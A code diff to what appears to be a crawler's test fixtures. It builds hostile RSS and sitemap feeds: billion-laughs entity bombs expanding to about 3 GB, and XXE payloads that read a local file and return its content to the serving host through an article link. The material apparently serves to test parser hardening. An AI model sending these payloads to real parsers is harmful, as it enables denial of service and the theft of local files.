@@ -376,15 +376,18 @@ def rss(items: list[tuple[str, str]], doctype: str = "", title: str = "Tin tức
             f"{extra_item}{body}</channel></rss>").encode()
 
 
-def billion_laughs_rss(items: list[tuple[str, str]] = ()) -> bytes:
-    return rss(list(items), BILLION_LAUGHS_DTD, title="&lol9;",
-               extra_item="<item><title>&lol9;</title><link>http://example.invalid/lol</link></item>")
+def billion_laughs_rss(host: str = "example.invalid") -> bytes:
+    """Entities expanding to ~3 GB, in the title and in an article link on the unit's own host."""
+    return rss([], BILLION_LAUGHS_DTD, title="&lol9;",
+               extra_item=f"<item><title>&lol9;</title><link>http://{host}/tin-tuc/&lol9;-1000.html</link></item>")
 
 
-def xxe_rss(secret_path: str, items: list[tuple[str, str]] = ()) -> bytes:
+def xxe_rss(secret_path: str, host: str = "example.invalid") -> bytes:
+    """An external entity reading a local file, placed in an article link on the unit's own host: a
+    parser that resolves it would make the crawler send the file's content back to this server."""
     dtd = f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{secret_path}">]>'
-    return rss(list(items), dtd, title="&xxe;",
-               extra_item="<item><title>&xxe;</title><link>http://example.invalid/&xxe;</link>"
+    return rss([], dtd, title="&xxe;",
+               extra_item=f"<item><title>&xxe;</title><link>http://{host}/tin-tuc/&xxe;-1000.html</link>"
                           "<description>&xxe;</description></item>")
 
 
@@ -394,13 +397,13 @@ def sitemap(urls: list[str], doctype: str = "", extra: str = "") -> bytes:
             f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{extra}{body}</urlset>').encode()
 
 
-def billion_laughs_sitemap(urls: list[str] = ()) -> bytes:
-    return sitemap(list(urls), BILLION_LAUGHS_DTD, extra="<url><loc>http://example.invalid/&lol9;</loc></url>")
+def billion_laughs_sitemap(host: str = "example.invalid") -> bytes:
+    return sitemap([], BILLION_LAUGHS_DTD, extra=f"<url><loc>http://{host}/tin-tuc/&lol9;-1000.html</loc></url>")
 
 
-def xxe_sitemap(secret_path: str, urls: list[str] = ()) -> bytes:
+def xxe_sitemap(secret_path: str, host: str = "example.invalid") -> bytes:
     dtd = f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{secret_path}">]>'
-    return sitemap(list(urls), dtd, extra="<url><loc>http://example.invalid/&xxe;</loc></url>")
+    return sitemap([], dtd, extra=f"<url><loc>http://{host}/tin-tuc/&xxe;-1000.html</loc></url>")
 
 
 # ---- a healthy site, to show other sources keep working
